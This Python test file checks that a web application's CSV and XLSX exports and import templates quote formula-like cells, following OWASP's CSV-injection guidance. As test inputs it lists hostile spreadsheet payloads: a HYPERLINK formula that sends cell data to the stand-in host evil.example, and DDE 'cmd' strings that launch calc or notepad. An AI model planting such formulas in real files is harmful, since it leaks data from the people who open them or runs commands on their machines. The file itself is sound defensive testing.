"""No exported cell runs as a formula (OWASP, CSV injection): a title that starts with "=",
"+", "-", "@", a tab or a carriage return is written with a leading single quote in every
CSV and XLSX the lists and the import templates give, and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from doingoai.aid.pages import programmes
from doingoai.core.tests.factories import make_figure, make_partner, make_programme
from doingoai.figures.pages import figures
from doingoai.lib.cells import safe_cell, unquote_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "=cmd|' /C notepad'!'A1'",
]


def _csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def _runnable(value) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.fixture
def hostile_titles(ha_giang):
    for title in HOSTILE:
        make_programme(ha_giang, title=title)


def test_it_quotes_every_hostile_title_in_the_csv_of_a_list(hg_client, hostile_titles):
    response = hg_client.get(programmes.reverse("list"), {"export": "csv"})
    cells = _csv_cells(response)
    assert sorted(c for c in cells if c.startswith("'")) == sorted("'" + t for t in HOSTILE)
    assert not [c for c in cells if _runnable(c)]


def test_it_quotes_every_hostile_title_in_the_xlsx_of_a_list(hg_client, hostile_titles):
    response = hg_client.get(programmes.reverse("list"), {"export": "xlsx"})
    cells = _xlsx_cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if _runnable(c.value)]
    assert sorted(c.value for c in cells if str(c.value).startswith("'")) == sorted(
        "'" + t for t in HOSTILE)


def test_a_number_stays_a_number_in_the_xlsx_of_a_list(hg_client, ha_giang):
    make_figure(ha_giang, value=Decimal("45"))
    response = hg_client.get(figures.reverse("list"), {"export": "xlsx"})
    assert 45 in [c.value for c in _xlsx_cells(response.content) if c.data_type == "n"]


def test_it_quotes_a_hostile_partner_name_in_the_lists_of_the_import_template(
        hg_client, ha_giang):
    make_partner(ha_giang, name_vi="=HYPERLINK(\"http://evil.example\")", kind="intl_org")
    response = hg_client.get(programmes.reverse("template"))
    cells = _xlsx_cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if _runnable(c.value)]
    assert "'=HYPERLINK(\"http://evil.example\")" in [c.value for c in cells]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_quoted_cell_reads_back_as_the_text_itself(text):
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [-5, Decimal("-1.5"), 0, None, "-3", "-1.234,5", "+84",
                                   "Hà Giang", "'=already quoted", ""])
def test_it_leaves_numbers_and_plain_text_alone(value):
    assert safe_cell(value) == value
